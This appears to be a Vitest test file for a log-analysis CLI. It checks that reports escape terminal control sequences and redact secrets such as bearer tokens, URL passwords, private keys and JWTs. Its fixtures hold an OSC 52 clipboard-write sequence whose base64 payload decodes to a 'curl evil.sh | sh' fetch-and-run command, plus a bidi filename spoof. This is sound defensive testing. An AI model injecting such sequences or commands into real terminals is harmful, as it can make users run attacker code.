import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import {fixedFlags, incidentLine, makeTempDir, parseJsonReport, runCli, writeDemoWith} from './cli-process.js';

// Every family of terminal escape, placed after the expiry time of a loopback failure line so that it is evidence.
const escapes = [
	'csi=\u001b[2J\u001b[31mRED',
	'osc=\u001b]0;owned title\u0007',
	'osc52=\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007',
	'dcs=\u001bPq#0;2;0;0;0\u001b\\',
	'c1=\u009b31m',
	'bidi=\u202etxt.exe',
	'bel=\u0007',
	'bs=abc\b\b\b',
	'cr=\rFAKE OK',
].join(' ');

const secrets = {
	bearer: 'Authorization: Bearer sk9QmT2vXw8Lr4Zp6Yh1Nc3',
	url: 'https://admin:Hunter2hunter2@10.0.0.5:2379/v3',
	query: 'https://10.0.0.5/x?token=Zq7Wm2Rt9Lp4Vn6K&x=1',
	password: 'password=Tr0ub4dor-3xyz',
	pem: '-----BEGIN RSA PRIVATE KEY-----\\nMIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\\n-----END RSA PRIVATE KEY-----',
	jwt: 'eyJhbGciOiJSUzI1NiIsImtpZCI6ImsxIn0.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6ZGVmYXVsdDpib3QifQ.c2lnbmF0dXJlLXZhbHVlLWhlcmU',
} as const;
const secretValues = ['sk9QmT2vXw8Lr4Zp6Yh1Nc3', 'Hunter2hunter2', 'Zq7Wm2Rt9Lp4Vn6K', 'Tr0ub4dor-3xyz', 'MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun', secrets.jwt];

// Bytes a terminal would act on: ESC, the C1 range (as UTF-8, U+0080..U+009F) and bidi controls.
const c1 = /[\u0080-\u009f]/;
const bidi = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
const otherControls = /[\u0000-\u0008\u000b-\u001f\u007f]/;

let temp: ReturnType<typeof makeTempDir>;
let file: string;

beforeAll(() => {
	temp = makeTempDir('evidence');
	file = temp.file('hostile.log');
	// Five lines at most: a finding keeps the last five lines of each group of signal lines as evidence.
	const secretLines = [`sent ${secrets.bearer} to ${secrets.url}`, `while calling ${secrets.query} done`, `with ${secrets.password} done`, `key ${secrets.pem} and token ${secrets.jwt}`];
	writeDemoWith(file, [incidentLine(1, escapes), ...secretLines.map((tail, i) => incidentLine(2 + i, tail))]);
});

afterAll(() => {
	temp.remove();
});

describe('escape sequences in evidence', () => {
	it('the text report shows them escaped and writes no control byte of its own without a TTY or with --no-color', async () => {
		for (const colour of [['--no-color'], []]) {
			const result = await runCli([...fixedFlags, '--format', 'text', ...colour, file]);
			expect(result.code).toBe(1);
			const out = result.stdout.toString('utf8');
			expect(result.stdout.includes(0x1b)).toBe(false);
			expect(out).not.toMatch(c1);
			expect(out).not.toMatch(bidi);
			expect(out).not.toMatch(otherControls);
			expect(out).toContain('csi=\\x1b[2J\\x1b[31mRED osc=\\x1b]0;owned title\\x07 osc52=\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 dcs=\\x1bPq#0;2;0;0;0\\x1b\\ c1=\\u009b31m bidi=\\u202etxt.exe bel=\\x07 bs=abc\\x08\\x08\\x08 cr=\\rFAKE OK');
		}
	});

	it('the Markdown report shows them escaped', async () => {
		const result = await runCli([...fixedFlags, '--format', 'markdown', file]);
		expect(result.code).toBe(1);
		const out = result.stdout.toString('utf8');
		expect(result.stdout.includes(0x1b)).toBe(false);
		expect(out).not.toMatch(c1);
		expect(out).not.toMatch(bidi);
		expect(out).not.toMatch(otherControls);
		expect(out).toContain('osc52=\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07');
	});

	it('JSON escapes them as JSON does and gives back the original characters', async () => {
		const result = await runCli([...fixedFlags, '--format', 'json', file]);
		expect(result.code).toBe(1);
		expect(result.stdout.includes(0x1b)).toBe(false);
		const raw = result.stdout.toString('utf8');
		expect(raw).not.toMatch(c1);
		expect(raw).not.toMatch(bidi);
		expect(raw).toContain('\\u001b]52;c;');
		expect(raw).toContain('\\u009b31m');
		expect(raw).toContain('\\u202etxt.exe');
		const report = parseJsonReport(result.stdout);
		// `raw` is the line as read (JSON gives back its characters); `text` is its decoded message.
		const raws = report.findings[0]!.evidence.map((e) => e.raw);
		expect(raws).toContain(incidentLine(1, escapes));
	});
});

describe('secrets in evidence', () => {
	it.each(['text', 'markdown', 'json'])('%s: every form is redacted and counted', async (format) => {
		const result = await runCli([...fixedFlags, '--format', format, file]);
		expect(result.code).toBe(1);
		const out = result.stdout.toString('utf8');
		for (const value of secretValues) expect(out).not.toContain(value);
		for (const kept of ['Authorization: Bearer [REDACTED]', 'https://admin:[REDACTED]@10.0.0.5:2379/v3', '?token=[REDACTED]&x=1', 'password=[REDACTED]', '-----BEGIN RSA PRIVATE KEY-----[REDACTED]-----END RSA PRIVATE KEY-----']) {
			expect(out).toContain(kept);
		}

		if (format === 'text') expect(out).toContain('Redacted 6 secret values (--no-redact shows them).');
		if (format === 'markdown') expect(out).toContain('_Redacted 6 secret values._');
		if (format === 'json') expect(parseJsonReport(result.stdout).redaction).toEqual({enabled: true, values: 6});
	});

	it.each(['text', 'markdown', 'json'])('%s with --no-redact shows them', async (format) => {
		const result = await runCli([...fixedFlags, '--format', format, '--no-redact', file]);
		expect(result.code).toBe(1);
		const out = format === 'json' ? parseJsonReport(result.stdout).findings[0]!.evidence.map((e) => e.text).join('\n') : result.stdout.toString('utf8');
		for (const value of secretValues) expect(out).toContain(value);
		expect(out).not.toContain('[REDACTED]');
		if (format === 'json') expect(parseJsonReport(result.stdout).redaction).toEqual({enabled: false, values: 0});
		if (format === 'text') expect(result.stdout.toString('utf8')).toContain('Secret redaction is off (--no-redact).');
	});
});
